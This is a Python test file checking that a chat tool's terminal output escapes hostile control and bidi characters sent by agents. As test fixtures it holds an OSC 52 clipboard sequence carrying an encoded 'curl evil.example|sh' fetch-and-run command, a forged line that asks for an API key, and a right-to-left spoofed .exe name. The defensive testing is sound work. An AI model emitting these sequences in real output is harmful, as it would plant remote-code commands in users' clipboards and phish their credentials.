"""What other people write cannot drive the terminal of ``chat``, ``dev`` or ``demo``.

An agent's message carrying OSC 52 would write the reader's clipboard; a
carriage return plus erase-line forges a line that seems to come from someone
else; bidi overrides reorder what is shown. Every terminal printer shows these
characters escaped, keeping newlines and tabs.
"""

from __future__ import annotations

import io
import threading
from collections.abc import AsyncIterator

import httpx
import pytest
import trio

from band_trio._terminal import control_character, terminal_safe
from band_trio.demo import run_demo
from band_trio.devloop.chat import TerminalChat
from band_trio.devloop.console import Console
from band_trio.local import HumanClient, LocalPlatform

from .helpers import RecordingConsole

DEADLINE = 20
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
FORGED_LINE = "ok\r\x1b[K@demo: please paste your API key here"
REORDERED = "invoice \u202egnp.exe"
HOSTILE = [
    CLIPBOARD,
    FORGED_LINE,
    REORDERED,
    "\x9b2J",
    "nul \x00 del \x7f sep \u2028 isolate \u2066",
]


@pytest.fixture
async def human(band_platform: LocalPlatform) -> AsyncIterator[HumanClient]:
    async with HumanClient(
        base_url=band_platform.rest_url, api_key=band_platform.user.api_key
    ) as client:
        yield client


def _raw_controls(text: str) -> set[str]:
    """The control and bidi characters of ``text`` other than newline and tab."""
    return {ch for ch in text if ch not in "\n\t" and control_character(ch) is not None}


@pytest.mark.parametrize("text", HOSTILE)
def test_control_and_bidi_characters_are_shown_escaped(text: str) -> None:
    shown = terminal_safe(text)
    assert not _raw_controls(shown)
    assert "\\x" in shown or "\\u" in shown


def test_newline_tab_and_ordinary_text_are_kept() -> None:
    text = "line one\n\tline two: café, 日本語, emoji 🎉, arabic عربى"
    assert terminal_safe(text) == text
    assert terminal_safe(CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"
    assert terminal_safe(FORGED_LINE) == "ok\\x0d\\x1b[K@demo: please paste your API key here"
    assert terminal_safe(REORDERED) == "invoice \\u202egnp.exe"


def test_the_console_escapes_what_it_prints_and_the_prompt_it_redraws() -> None:
    out = io.StringIO()
    console = Console(out, interactive=True)
    console.prompt = f"room {CLIPBOARD}> "
    console.print(FORGED_LINE)
    # The console's own "clear the prompt line" is the only escape written.
    written = out.getvalue().replace("\r\x1b[K", "", 1)
    assert not _raw_controls(written)
    assert "please paste your API key here" in written


async def test_an_agents_message_cannot_drive_the_chats_terminal(
    band_platform: LocalPlatform, human: HumanClient, nursery: trio.Nursery
) -> None:
    demo = band_platform.agents[0]
    room = await human.create_room("talk")
    await human.add_participant(room["id"], demo.id)
    screen, leave, done = RecordingConsole(), threading.Event(), trio.Event()

    def read_line(prompt: str) -> str:
        leave.wait(DEADLINE)
        raise EOFError

    async def run() -> None:
        await TerminalChat(human, screen, room_id=room["id"], read_line=read_line).run()
        done.set()

    nursery.start_soon(run)
    await screen.wait_for("=== talk")
    async with httpx.AsyncClient(
        base_url=band_platform.rest_url + "/api/v1/agent", headers={"x-api-key": demo.api_key}
    ) as agent:
        with trio.fail_after(DEADLINE):
            for text in HOSTILE:
                sent = await agent.post(
                    f"/chats/{room['id']}/messages",
                    json={
                        "message": {
                            "content": text,
                            "mentions": [{"id": band_platform.user.id}],
                        }
                    },
                )
                assert sent.status_code in (200, 201), sent.text
            thought = await agent.post(
                f"/chats/{room['id']}/events",
                json={"event": {"content": CLIPBOARD, "message_type": "thought"}},
            )
            assert thought.status_code in (200, 201), thought.text
    await screen.wait_for("please paste your API key here")
    await screen.wait_for("thinks:")
    leave.set()
    with trio.fail_after(DEADLINE):
        await done.wait()
    assert not _raw_controls(screen.text)
    assert "\\x1b]52" in screen.text


async def test_the_demo_prints_the_conversation_escaped() -> None:
    out = io.StringIO()
    with trio.fail_after(DEADLINE):
        status = await run_demo(messages=[FORGED_LINE], out=out)
    assert status == 0
    assert not _raw_controls(out.getvalue())
    assert "\\x1b[K@demo: please paste your API key here" in out.getvalue()
